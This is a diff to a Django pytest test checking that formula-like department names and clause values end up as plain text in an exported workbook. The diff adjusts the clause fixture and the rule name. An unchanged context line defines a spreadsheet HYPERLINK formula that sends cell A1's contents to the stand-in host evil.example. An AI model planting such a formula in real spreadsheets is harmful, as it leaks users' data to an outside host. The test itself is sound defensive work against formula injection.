@@ -24,7 +24,8 @@ from xietong.policy.services import policy_version_create
 pytestmark = pytest.mark.django_db
 NOW = datetime(2026, 3, 18, 10, 0, tzinfo=SHANGHAI)
 EVIL_DEPARTMENT = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
-EVIL_CLAUSE = "=1+2"
+# Formula-like, and still citing a clause of the regulation (its clause list is checked).
+EVIL_CLAUSE = "=1+2+第五条(二)1"
 
 
 def test_formula_like_names_and_clauses_are_text_in_the_workbook(torg, login):
@@ -37,14 +38,14 @@ def test_formula_like_names_and_clauses_are_text_in_the_workbook(torg, login):
     department = Department.objects.get(name=EVIL_DEPARTMENT)
     rules = current_version(torg.policy).rules
     text = dump_policy(rules).replace(
-        f'clause = "{rules.get("warning_lead_days").clause}"', f'clause = "{EVIL_CLAUSE}"'
+        f'clause = "{rules.get("action_due").clause}"', f'clause = "{EVIL_CLAUSE}"'
     )
     version = policy_version_create(
         policy=torg.policy, actor=torg.coordinator, now=NOW, reason="测试", text=text
     )
     obligation_open(
         kind=ObligationKind.ACTION_DUE,
-        rule="warning_lead_days",
+        rule="action_due",
         subject=department,
         due=CalendarResult(datetime(2026, 3, 20, 17, 30, tzinfo=SHANGHAI)),
         policy_version=version,
